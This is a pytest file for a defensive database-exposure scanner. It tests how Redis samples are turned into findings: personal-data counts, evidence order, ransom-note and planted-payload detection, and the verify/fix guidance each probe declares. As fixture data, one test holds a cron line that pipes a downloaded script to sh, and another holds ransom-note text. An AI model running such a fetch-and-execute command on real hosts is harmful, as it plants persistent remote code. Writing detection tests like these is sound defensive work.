"""The sampler every probe hands its reads to: classification, compromise, merging, evidence;
and the metadata every probe declares for reports.

No server: the records are what a probe would have read (the lab's own ransom note, a cron
line of the Redis-to-shell attack, chat rows with Malaysian numbers), so these tests pin the
one place that turns reads into findings for all fifteen probes.
"""

from __future__ import annotations

import pytest

from perisai.findings import Auth, Finding, Severity, Target
from perisai.lab.seed import RANSOM_NOTE
from perisai.probes import Probe, ProbeResult, ProbeSkipped, ScanConfig, probe_classes
from perisai.probes.redis import RedisProbe
from perisai.probes.sampling import NOTE_MIN_CHARS, Sampler
from perisai.report.guidance import verify_commands

TITLES = ("Redis readable without authentication", "Redis accepts a vendor default password")
CHAT = [
    {"from": "+60 12-345 6789", "to": "siti.aminah@example.org", "text": "jumpa esok"},
    {"from": "+60 19-876 5432", "to": "ali.hassan@example.com", "text": "ok"},
]
PLAIN = [{"id": "3f2504e0-4f89-11d3-9a0c-0305e82c3301", "count": "12"}]  # a UUID: no phone


def _sampler(auth: Auth = Auth.NONE) -> Sampler:
    return Sampler(RedisProbe(ScanConfig()), Target("127.0.0.1", 6379, "redis"), auth)


def test_containers_merge_into_one_profile_and_the_estimate_sums_what_is_known() -> None:
    sampler = _sampler()
    sampler.sample("db0", CHAT, estimated=1200, head="1200 keys")
    sampler.sample("db1", PLAIN, estimated=None)
    sampler.listed("db2", estimated=30, head="30 keys", unread="not read (too big)")
    total = sampler.total()
    assert total.records_sampled == 3
    assert total.records_with_personal_data == 2
    assert total.entities["PHONE"] == 2 and total.entities["EMAIL"] == 2
    assert total.records_estimated == 1230  # db1's count unknown: not a zero
    assert total.records_at_least and total.records_text == "at least 1,230"  # …but a floor
    assert total.to_dict()["records_at_least"] is True
    assert _sampler().total().records_estimated is None  # nothing listed: unknown
    assert _sampler().total().records_text == "unknown"


def test_a_total_is_whole_only_when_every_part_was_counted() -> None:
    known = _sampler()
    known.sample("db0", CHAT, estimated=1200)
    known.listed("db1", estimated=30, unread="not read")
    assert known.total().records_text == "1,230" and not known.total().records_at_least
    profile = known.total()
    profile.counted(5000)  # the server's own total replaces the sum, and is whole
    assert profile.records_text == "5,000"
    floor = _sampler()
    floor.sample("db0", CHAT, estimated=1200)
    floor.listed("more databases", unread="not listed (past the limit)")
    [finding] = floor.findings([], TITLES)
    assert finding.data.records_text == "at least 1,200"
    restored = Finding.from_dict(finding.to_dict())
    assert restored.data.records_at_least and restored.data.records_text == "at least 1,200"


def test_evidence_is_in_the_standard_order_and_ranks_containers_by_personal_data() -> None:
    sampler = _sampler()
    sampler.sample("db1", PLAIN, estimated=5, head="5 keys")
    sampler.sample("db0", CHAT, estimated=1200, head="1200 keys")
    sampler.listed("db2", estimated=30, head="30 keys", unread="not read (too big)")
    sampler.read("INFO keyspace")
    sampler.read("SCAN 0 COUNT 100")
    [finding] = sampler.findings([], TITLES)
    texts = [e.text for e in finding.evidence]
    assert texts[0].startswith("sampled 3 records, 2 with personal data: ")
    assert texts[1].startswith("db0: 1200 keys; sampled 2 records, 2 with personal data")
    assert texts[2:4] == ["db2: 30 keys; not read (too big)", texts[3]]
    assert texts[3].startswith("db1: 5 keys; sampled 1 records, 0 with personal data")
    assert any(t.startswith("e.g. PHONE: ") for t in texts[4:-1])
    assert texts[-1] == "reads: INFO keyspace; SCAN 0 COUNT 100"
    assert finding.rule == "redis.unauthenticated" and finding.severity is Severity.CRITICAL
    assert finding.title == TITLES[0]


def test_an_open_store_without_personal_data_is_high_not_critical() -> None:
    sampler = _sampler(Auth.DEFAULT_CREDENTIALS)
    sampler.sample("db0", PLAIN, estimated=1)
    [finding] = sampler.findings([], TITLES)
    assert finding.rule == "redis.default-credentials" and finding.title == TITLES[1]
    assert finding.severity is Severity.HIGH
    assert not any(finding.data.entities.values())


def test_a_ransom_note_is_found_once_per_place_and_short_text_only_under_a_note_name() -> None:
    sampler = _sampler()
    rows = [{"note": RANSOM_NOTE}, {"note": RANSOM_NOTE}]
    sampler.spot_notes("db0/READ_ME_TO_RECOVER", rows)
    sampler.spot_note("db0/READ_ME_TO_RECOVER", RANSOM_NOTE)  # the same place again
    assert [n.location for n in sampler.notes] == ["db0/READ_ME_TO_RECOVER"]
    short = "pay 0.1 BTC to recover your data, contact us, deleted backup"[: NOTE_MIN_CHARS - 1]
    assert not sampler.spot_note("db0/greeting", short)
    assert not sampler.spot_note("db0/user:17", "the weather today is fine " * 10)
    exposure, note = sampler.findings([], TITLES)
    assert exposure.ransom_note and note.rule == "compromise.ransom-note"
    assert note.severity is Severity.CRITICAL and note.object == "db0/READ_ME_TO_RECOVER"


def test_nested_documents_are_searched_for_notes() -> None:
    sampler = _sampler()
    sampler.spot_notes("shop.orders", [{"meta": {"history": [{"text": RANSOM_NOTE}]}}])
    assert [n.location for n in sampler.notes] == ["shop.orders"]


def test_a_planted_cron_job_becomes_its_own_finding() -> None:
    sampler = _sampler()
    cron = "\n\n*/1 * * * * curl -fsSL http://127.0.0.1:9/x.sh | sh\n\n"
    assert sampler.spot_payload("db0/backup1", cron)
    assert not sampler.spot_payload("db0/user:17", "*/5 minutes is how often we poll")
    rules = [f.rule for f in sampler.findings([], TITLES)]
    assert rules == ["redis.unauthenticated", "compromise.planted-payload"]


def test_a_probe_that_stops_early_still_reports_what_it_proved() -> None:
    sampler = _sampler()
    sampler.sample("db0", CHAT, estimated=2)
    assert isinstance(sampler.result([], TITLES), ProbeResult)
    sampler.stop("probe deadline reached after reading 2 keys")
    sampler.stop("a later reason does not replace the first")
    result = sampler.result([], TITLES)
    assert isinstance(result, ProbeSkipped)
    assert result.reason == "probe deadline reached after reading 2 keys"
    assert [f.rule for f in result.findings] == ["redis.unauthenticated"]


def test_a_login_kind_with_its_own_rule_names_it() -> None:
    sampler = _sampler()
    sampler.sample("db0", CHAT, estimated=2)
    [finding] = sampler.findings(
        [], ("Redis protected mode", "unused"), rule_id="redis.unauthenticated"
    )
    assert finding.rule == "redis.unauthenticated" and finding.title == "Redis protected mode"


@pytest.mark.parametrize("probe", probe_classes(), ids=lambda p: p.service)
def test_every_probe_declares_how_to_verify_and_fix_in_its_metadata(probe: type[Probe]) -> None:
    """A new service is one module: its report guidance travels on its rules, filled in."""
    assert probe.verify and probe.fix, probe.service
    assert all("{host}" in command for command in probe.verify), probe.service
    own = [r for r in probe.report_rules() if r.id.startswith(f"{probe.service}.")]
    assert own and all(r.verify == probe.verify and r.fix == probe.fix for r in own)
    shared = [r for r in probe.report_rules() if not r.id.startswith(f"{probe.service}.")]
    assert all(not r.verify and not r.fix for r in shared)  # a ransom note borrows the service's
    finding = Finding(
        rule=own[0].id,
        severity=Severity.HIGH,
        title="t",
        target=Target("db.example.internal", 4321, probe.service),
        auth=Auth.NONE,
    )
    commands = verify_commands(finding, {r.id: r for r in probe.report_rules()})
    assert commands and not [c for c in commands if "{host}" in c or "{port}" in c]
    assert all("db.example.internal" in c for c in commands), commands
    assert (
        verify_commands(finding, {}) == commands
    )  # a stored report without them: the installed probe's
